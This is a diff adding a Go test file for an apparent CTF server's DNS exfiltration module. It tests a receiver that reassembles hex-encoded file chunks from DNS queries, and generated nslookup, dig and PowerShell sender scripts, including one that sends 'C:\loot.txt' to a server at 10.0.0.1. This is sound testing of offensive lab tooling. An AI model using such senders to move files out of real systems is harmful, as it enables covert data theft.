@@ -0,0 +1,341 @@
+package dnsexfil
+
+import (
+	"bytes"
+	"encoding/hex"
+	"fmt"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+	"testing/fstest"
+	"time"
+
+	"golang.org/x/net/dns/dnsmessage"
+
+	"github.com/m1kkY8/ctfserver/pkg/auth"
+	"github.com/m1kkY8/ctfserver/pkg/config"
+	"github.com/m1kkY8/ctfserver/pkg/logger"
+	"github.com/m1kkY8/ctfserver/pkg/service"
+)
+
+const testZone = "x.example.com"
+
+// serve starts a server for testZone saving uploads to a temporary
+// directory, returning a connection to it and the directory
+func serve(t *testing.T) (*Server, *net.UDPConn, string) {
+	t.Helper()
+	logger.InitLogger("error")
+	uploadDir := t.TempDir()
+	fileService := service.NewFileService(fstest.MapFS{}, "root", uploadDir, 1<<20)
+	server := New(fileService, auth.New(&config.Config{}), testZone)
+
+	conn, err := net.ListenUDP("udp", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	go server.Serve(conn)
+	t.Cleanup(func() { server.Close() })
+
+	client, err := net.DialUDP("udp", nil, conn.LocalAddr().(*net.UDPAddr))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { client.Close() })
+	return server, client, uploadDir
+}
+
+// lookup sends an A query for name below testZone and returns the answered
+// address, or the response code when there is no answer
+func lookup(t *testing.T, conn *net.UDPConn, name string) string {
+	t.Helper()
+	question, err := dnsmessage.NewName(name + "." + testZone + ".")
+	if err != nil {
+		t.Fatalf("name %q: %v", name, err)
+	}
+	b := dnsmessage.NewBuilder(nil, dnsmessage.Header{ID: 42, RecursionDesired: true})
+	b.StartQuestions()
+	b.Question(dnsmessage.Question{Name: question, Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET})
+	query, err := b.Finish()
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	conn.SetDeadline(time.Now().Add(5 * time.Second))
+	if _, err := conn.Write(query); err != nil {
+		t.Fatal(err)
+	}
+	buf := make([]byte, maxPacketSize)
+	n, err := conn.Read(buf)
+	if err != nil {
+		t.Fatalf("query %q: %v", name, err)
+	}
+
+	var p dnsmessage.Parser
+	header, err := p.Start(buf[:n])
+	if err != nil {
+		t.Fatal(err)
+	}
+	if header.ID != 42 || !header.Response {
+		t.Fatalf("query %q: unexpected header %+v", name, header)
+	}
+	p.SkipAllQuestions()
+	answers, err := p.AllAnswers()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(answers) == 0 {
+		return header.RCode.String()
+	}
+	a, ok := answers[0].Body.(*dnsmessage.AResource)
+	if !ok {
+		t.Fatalf("query %q: unexpected answer %v", name, answers[0])
+	}
+	return net.IP(a.A[:]).String()
+}
+
+// chunkName is the query carrying data as chunk seq of transfer id
+func chunkName(id string, seq int, data string) string {
+	return fmt.Sprintf("%s.%d.%s", hex.EncodeToString([]byte(data)), seq, id)
+}
+
+// endName is the query ending transfer id after count chunks
+func endName(id string, count int, filename string) string {
+	name := fmt.Sprintf("%d.end.%s", count, id)
+	if filename != "" {
+		name = hex.EncodeToString([]byte(filename)) + "." + name
+	}
+	return name
+}
+
+func TestTransfer(t *testing.T) {
+	tests := []struct {
+		name     string
+		queries  []string
+		answers  []string
+		filename string
+		content  string
+	}{
+		{
+			name:     "in order",
+			queries:  []string{chunkName("a1", 0, "hello "), chunkName("a1", 1, "world"), endName("a1", 2, "out.txt")},
+			answers:  []string{"127.0.0.1", "127.0.0.1", "127.0.0.1"},
+			filename: "out.txt",
+			content:  "hello world",
+		},
+		{
+			name:     "out of order",
+			queries:  []string{chunkName("b1", 2, "c"), chunkName("b1", 0, "a"), chunkName("b1", 1, "b"), endName("b1", 3, "abc")},
+			answers:  []string{"127.0.0.1", "127.0.0.1", "127.0.0.1", "127.0.0.1"},
+			filename: "abc",
+			content:  "abc",
+		},
+		{
+			name:     "duplicate chunks",
+			queries:  []string{chunkName("c1", 0, "one"), chunkName("c1", 0, "one"), chunkName("c1", 1, "two"), chunkName("c1", 1, "two"), endName("c1", 2, "dup")},
+			answers:  []string{"127.0.0.1", "127.0.0.1", "127.0.0.1", "127.0.0.1", "127.0.0.1"},
+			filename: "dup",
+			content:  "onetwo",
+		},
+		{
+			name:     "missing chunk is retried",
+			queries:  []string{chunkName("d1", 0, "first"), endName("d1", 2, "retry"), chunkName("d1", 1, "second"), endName("d1", 2, "retry")},
+			answers:  []string{"127.0.0.1", "127.0.0.2", "127.0.0.1", "127.0.0.1"},
+			filename: "retry",
+			content:  "firstsecond",
+		},
+		{
+			name:     "repeated end",
+			queries:  []string{chunkName("e1", 0, "x"), endName("e1", 1, "again"), endName("e1", 1, "again")},
+			answers:  []string{"127.0.0.1", "127.0.0.1", "127.0.0.1"},
+			filename: "again",
+			content:  "x",
+		},
+		{
+			name:     "unnamed",
+			queries:  []string{chunkName("f1", 0, "data"), endName("f1", 1, "")},
+			answers:  []string{"127.0.0.1", "127.0.0.1"},
+			filename: "dns-f1.bin",
+			content:  "data",
+		},
+		{
+			name:     "empty file",
+			queries:  []string{endName("g1", 0, "empty")},
+			answers:  []string{"127.0.0.1"},
+			filename: "empty",
+		},
+		{
+			name:    "invalid chunks",
+			queries: []string{"zz.0.h1", "6869.-1.h1", "6869.0.h_1", endName("h1", 1, "bad")},
+			answers: []string{"RCodeNameError", "RCodeNameError", "RCodeNameError", "127.0.0.2"},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, conn, uploadDir := serve(t)
+			for i, name := range tt.queries {
+				if got := lookup(t, conn, name); got != tt.answers[i] {
+					t.Errorf("query %d %q answered %s, want %s", i, name, got, tt.answers[i])
+				}
+			}
+
+			if tt.filename == "" {
+				entries, _ := os.ReadDir(uploadDir)
+				for _, entry := range entries {
+					if !strings.HasPrefix(entry.Name(), ".") {
+						t.Errorf("unexpected upload %s", entry.Name())
+					}
+				}
+				return
+			}
+			content, err := os.ReadFile(filepath.Join(uploadDir, tt.filename))
+			if err != nil {
+				t.Fatal(err)
+			}
+			if string(content) != tt.content {
+				t.Errorf("saved %q, want %q", content, tt.content)
+			}
+		})
+	}
+}
+
+func TestBufferLimit(t *testing.T) {
+	server, conn, _ := serve(t)
+	server.mu.Lock()
+	server.maxBuffered = 8
+	server.mu.Unlock()
+
+	if got := lookup(t, conn, chunkName("a", 0, "12345")); got != "127.0.0.1" {
+		t.Fatalf("first chunk answered %s", got)
+	}
+	// A second transfer may not take the buffer over the limit
+	if got := lookup(t, conn, chunkName("b", 0, "12345")); got != "RCodeNameError" {
+		t.Errorf("chunk over the limit answered %s", got)
+	}
+	// Resending a chunk doesn't count twice
+	if got := lookup(t, conn, chunkName("a", 0, "12345")); got != "127.0.0.1" {
+		t.Errorf("repeated chunk answered %s", got)
+	}
+	// Saving a transfer frees its chunks
+	if got := lookup(t, conn, endName("a", 1, "a")); got != "127.0.0.1" {
+		t.Errorf("end answered %s", got)
+	}
+	if got := lookup(t, conn, chunkName("b", 0, "12345")); got != "127.0.0.1" {
+		t.Errorf("chunk after save answered %s", got)
+	}
+
+	server.mu.Lock()
+	defer server.mu.Unlock()
+	if server.buffered != 5 {
+		t.Errorf("buffered %d bytes, want 5", server.buffered)
+	}
+}
+
+func TestHugeCount(t *testing.T) {
+	_, conn, uploadDir := serve(t)
+	if got := lookup(t, conn, chunkName("a", 0, "x")); got != "127.0.0.1" {
+		t.Fatalf("chunk answered %s", got)
+	}
+	// Counts beyond the chunks received are answered at once
+	for _, count := range []int{2, 2000000000} {
+		if got := lookup(t, conn, endName("a", count, "huge")); got != "127.0.0.2" {
+			t.Errorf("end after %d chunks answered %s, want 127.0.0.2", count, got)
+		}
+	}
+	if _, err := os.Stat(filepath.Join(uploadDir, "huge")); !os.IsNotExist(err) {
+		t.Errorf("saved an incomplete transfer: %v", err)
+	}
+}
+
+// TestSender runs the bash senders with the resolver replaced by a function
+// logging the names and failing the first end query, then replays the
+// names against the server
+func TestSender(t *testing.T) {
+	if _, err := exec.LookPath("bash"); err != nil {
+		t.Skip("bash not found")
+	}
+	content := bytes.Repeat([]byte("binary \x00\xff data\n"), 20)
+	filename := strings.Repeat("long-name-", 5) + ".txt"
+
+	for _, client := range []string{ClientNslookup, ClientDig} {
+		t.Run(client, func(t *testing.T) {
+			_, conn, uploadDir := serve(t)
+			dir := t.TempDir()
+			file := filepath.Join(dir, filename)
+			if err := os.WriteFile(file, content, 0o644); err != nil {
+				t.Fatal(err)
+			}
+			script, err := Sender(client, testZone, file, "")
+			if err != nil {
+				t.Fatal(err)
+			}
+
+			names := filepath.Join(dir, "names")
+			stub := client + `() { for a; do case $a in *.` + testZone + `) echo "$a" >> ` + names + `;; esac; done
+case $* in *.end.*) if [ -e ` + dir + `/failed ]; then echo 127.0.0.1; else : > ` + dir + `/failed; echo 127.0.0.2; fi;; esac; }; `
+			if out, err := exec.Command("bash", "-c", stub+script).CombinedOutput(); err != nil {
+				t.Fatalf("sender failed: %v\n%s", err, out)
+			}
+
+			data, err := os.ReadFile(names)
+			if err != nil {
+				t.Fatal(err)
+			}
+			queries := strings.Fields(string(data))
+			ends := 0
+			for _, query := range queries {
+				name := strings.TrimSuffix(query, "."+testZone)
+				for _, label := range strings.Split(name, ".") {
+					if len(label) == 0 || len(label) > 63 {
+						t.Fatalf("query %q has an invalid label", query)
+					}
+				}
+				if strings.Contains(name, ".end.") {
+					ends++
+				}
+				lookup(t, conn, name)
+			}
+			// The first end query is answered with 127.0.0.2, so the file is
+			// sent twice
+			if ends != 2 {
+				t.Errorf("sent %d end queries, want 2", ends)
+			}
+
+			saved, err := os.ReadFile(filepath.Join(uploadDir, filename))
+			if err != nil {
+				t.Fatal(err)
+			}
+			if !bytes.Equal(saved, content) {
+				t.Errorf("saved %q, want %q", saved, content)
+			}
+		})
+	}
+}
+
+func TestSenderPowerShell(t *testing.T) {
+	script, err := Sender(ClientPowerShell, testZone+".", `C:\loot.txt`, "10.0.0.1")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []string{
+		`$z='` + testZone + `'`,
+		`$f='C:\loot.txt'`,
+		`Resolve-DnsName -Type A -DnsOnly -Server 10.0.0.1 "$c.$n.$i.$z"`,
+		`Resolve-DnsName -Type A -DnsOnly -Server 10.0.0.1 "$m.$n.end.$i.$z"`,
+		`-notcontains '127.0.0.2'){break}`,
+	} {
+		if !strings.Contains(script, want) {
+			t.Errorf("script lacks %q:\n%s", want, script)
+		}
+	}
+
+	if _, err := Sender(ClientPowerShell, testZone, "f", "a;b"); err == nil {
+		t.Error("accepted an invalid server")
+	}
+	if _, err := Sender("host", testZone, "f", ""); err == nil {
+		t.Error("accepted an unknown client")
+	}
+}